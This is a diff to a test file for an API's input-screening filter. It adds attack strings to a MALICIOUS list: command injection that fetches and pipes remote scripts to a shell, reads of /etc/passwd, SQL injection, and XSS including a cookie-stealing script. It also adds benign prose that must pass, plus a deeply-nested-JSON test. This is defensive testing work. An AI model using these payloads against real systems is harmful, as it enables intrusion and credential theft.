@@ -77,6 +77,15 @@ MALICIOUS = [
     ("command_injection", "$(curl http://evil.example/x.sh)"),
     ("command_injection", "`cat /etc/passwd`"),
     ("command_injection", "ok && wget http://evil.example"),
+    ("xss", "<svg/onload=alert(1)>"),
+    ("command_injection", "; whoami"),
+    ("command_injection", "&& id"),
+    ("command_injection", "; ls -la /"),
+    ("command_injection", "curl http://x/s.sh | sh"),
+    ("sql_injection", "' UNION SELECT NULL,NULL--"),
+    ("sql_injection", "admin'-- -"),
+    ("sql_injection", '" or ""="'),
+    ("sql_injection", "1 OR SLEEP(5)#"),
 ]
 
 BENIGN = [
@@ -88,6 +97,15 @@ BENIGN = [
     "Compare 1 = 1 and 'a' = 'a' in logic.",
     "How do I use cat and grep together?",
     "The onerror handler in JavaScript: how does it work?",
+    "I tried Java; Python is easier",
+    "dog; cat people disagree",
+    "the movie 'Up' and others like it",
+    'Write "hello" and x = 5',
+    "Why does time.sleep(2) block?",
+    "a < b when one = 1",
+    "Use ls -la to list files",
+    "I said 'no' -- and meant it",
+    "What's the SQL for 'select * from users'?",
 ]
 
 
@@ -105,9 +123,16 @@ async def test_ordinary_prose_passes(api: Api, prompt: str) -> None:
     assert (await api.complete(prompt)).status_code == 200, prompt
 
 
-async def test_query_strings_are_screened_too(api: Api) -> None:
-    response = await api.client.get("/v1/usage", params={"filter": "x' OR '1'='1"})
-    assert response.status_code == 400
+@pytest.mark.parametrize("query", ["filter=x' OR '1'='1", "<script>alert(document.cookie)</script>"])
+async def test_query_strings_are_screened_too(api: Api, query: str) -> None:
+    # A query without "=" is screened as well.
+    assert (await api.client.get(f"/v1/usage?{query}")).status_code == 400
+
+
+async def test_deeply_nested_json_is_a_400_not_a_crash(api: Api) -> None:
+    body = "[" * 30000 + "]" * 30000
+    response = await api.client.post("/v1/completions", content=body, headers={"content-type": "application/json"})
+    assert response.status_code == 400 and response.json()["detail"] == "the JSON body is nested too deeply"
 
 
 async def test_log_only_mode_lets_the_request_through_and_says_so(start) -> None:
